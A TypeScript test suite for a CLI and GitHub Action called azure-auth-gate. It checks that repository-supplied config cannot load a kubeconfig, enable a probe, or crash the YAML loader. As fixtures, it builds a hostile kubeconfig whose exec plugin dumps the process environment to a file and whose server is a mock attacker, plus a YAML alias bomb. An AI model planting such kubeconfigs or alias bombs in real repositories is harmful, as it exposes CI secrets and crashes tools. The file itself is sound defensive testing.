/**
 * Issue 11, item 3 and the config alias bomb: a repository cannot make the gate load its kubeconfig (whose
 * `exec` plugin would run on the runner or the laptop, next to the ID-token variables and the GitHub token),
 * cannot turn the probe on from a file, and cannot crash the config loader. The built bundle and the built
 * CLI run as processes; the kubeconfig's exec plugin would leave a marker file and its server is the attacker.
 */
import { existsSync, mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { buildBin } from "../cli/built-bin.js";
import { startAttacker, type Attacker } from "./attacker.js";
import { everythingVisible, pullRequestEvent, runBundle, runnerEnv, runnerJob, runProcess } from "./processes.js";

const TENANT = "72f988bf-86f1-41af-91ab-2d7cd011db47";
const CLIENT = "0b1e8e5c-1111-4c5e-9d7a-3f6a2b9c8d01";
const SUB = "11111111-1111-1111-1111-111111111111";

let attacker: Attacker;
let built: ReturnType<typeof buildBin>;
let marker: string;

/** A kubeconfig whose user is an exec plugin (it would run as the gate's user) and whose server is the attacker. */
function hostileKubeconfig(): string {
  const script = `require("fs").writeFileSync(${JSON.stringify(marker)}, JSON.stringify(process.env))`;
  return [
    "apiVersion: v1",
    "kind: Config",
    `clusters: [{ name: prod, cluster: { server: "${attacker.url}", insecure-skip-tls-verify: true } }]`,
    "users:",
    "  - name: pwn",
    "    user:",
    "      exec:",
    "        apiVersion: client.authentication.k8s.io/v1",
    `        command: ${JSON.stringify(process.execPath)}`,
    `        args: ["-e", ${JSON.stringify(script)}]`,
    "        interactiveMode: Never",
    "contexts: [{ name: prod, context: { cluster: prod, user: pwn } }]",
    "current-context: prod",
    "",
  ].join("\n");
}

function repoConfig(probe: string): string {
  return `tenantId: ${TENANT}\nsubscriptions: [${SUB}]\ntargets: [{ workload: app/Deployment/backend, serviceAccount: backend, clientId: ${CLIENT} }]\nprobe:\n${probe}`;
}

beforeAll(async () => {
  attacker = await startAttacker();
  marker = path.join(mkdtempSync(path.join(tmpdir(), "aag-marker-")), "exec-plugin-ran");
  built = buildBin("security-kubeconfig");
}, 120_000);

afterAll(async () => {
  await attacker?.stop();
  built?.remove();
});

function expectNothingHappened(): void {
  expect(existsSync(marker), "the repository's kubeconfig exec plugin ran").toBe(false);
  expect(attacker.connections).toBe(0);
  expect(attacker.requests).toEqual([]);
}

describe("the CLI on a cloned repository", () => {
  function clone(config: string): string {
    const dir = mkdtempSync(path.join(tmpdir(), "aag-cloned-"));
    writeFileSync(path.join(dir, "kube.yaml"), hostileKubeconfig());
    writeFileSync(path.join(dir, "azure-auth-gate.yml"), config);
    return dir;
  }

  const env = () => ({ PATH: path.dirname(process.execPath), HOME: tmpdir(), NO_COLOR: "1" });

  it("refuses probe.kubeconfig with one line naming the replacement (exit 2), before any plugin runs", async () => {
    const dir = clone(repoConfig("  kubeconfig: ./kube.yaml\n"));
    const run = await runProcess([built.bin, "check", "--config", "azure-auth-gate.yml", "--probe"], dir, env());
    expect(run.status, run.stderr).toBe(2);
    expect(run.stdout).toBe("");
    expect(run.stderr.trimEnd().split("\n")).toEqual([
      expect.stringMatching(
        /^azure-auth-gate: azure-auth-gate\.yml:5: probe\.kubeconfig: .*set KUBECONFIG in the job's environment, or pass --kubeconfig FILE to the CLI$/,
      ),
    ]);
    expectNothingHappened();
  });

  it("refuses probe.enabled: the probe runs only with --probe", async () => {
    const dir = clone(repoConfig("  enabled: true\n"));
    const run = await runProcess([built.bin, "check", "--config", "azure-auth-gate.yml"], dir, {
      ...env(),
      KUBECONFIG: path.join(dir, "kube.yaml"),
    });
    expect(run.status, run.stderr).toBe(2);
    expect(run.stderr).toMatch(/^azure-auth-gate: azure-auth-gate\.yml:5: probe\.enabled: .*--probe \(CLI\) or mode: probe \(Action\)\n$/);
    expectNothingHappened();
  });

  it("refuses a YAML alias bomb in the config with one line (exit 2), not an internal error", async () => {
    const levels = Array.from({ length: 9 }, (_, i) => `a${i + 1}: &a${i + 1} [${Array(9).fill(`*a${i}`).join(",")}]`);
    const dir = clone(['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]', ...levels, "subscriptions: *a9", ""].join("\n"));
    const run = await runProcess([built.bin, "check", "--config", "azure-auth-gate.yml"], dir, env());
    expect(run.status, run.stderr).toBe(2);
    expect(run.stderr).toMatch(
      /^azure-auth-gate: azure-auth-gate\.yml: YAML aliases expand beyond 100 copies \(an alias bomb\?\); refusing to read it\n$/,
    );
  });
});

describe("the Action on a pull request", () => {
  it("refuses probe.kubeconfig from the PR's config: the step fails in one line, no plugin, no token request", async () => {
    const job = runnerJob(
      { "azure-auth-gate.yml": repoConfig("  kubeconfig: ./kube.yaml\n"), "kube.yaml": hostileKubeconfig() },
      pullRequestEvent("contoso/django-app"),
    );
    const env = runnerEnv(
      job,
      { "client-id": CLIENT, "tenant-id": TENANT, mode: "probe", "github-token": "ghs_attackerCanSeeThis0000000000000000" },
      {
        // The runner's ID-token endpoint: pointed at the attacker, so any token request would show up there.
        ACTIONS_ID_TOKEN_REQUEST_URL: `${attacker.url}/idtoken?api-version=2.0`,
        ACTIONS_ID_TOKEN_REQUEST_TOKEN: "runner-request-token-0000",
      },
    );
    const run = await runBundle(job, env);
    expect(run.status).toBe(1);
    expect(run.stdout).toMatch(
      /^::error::\S*\/workspace\/azure-auth-gate\.yml:5: probe\.kubeconfig: .*set KUBECONFIG in the job's environment/m,
    );
    expect(everythingVisible(job, run)).not.toContain("runner-request-token-0000");
    expectNothingHappened();
  });
});
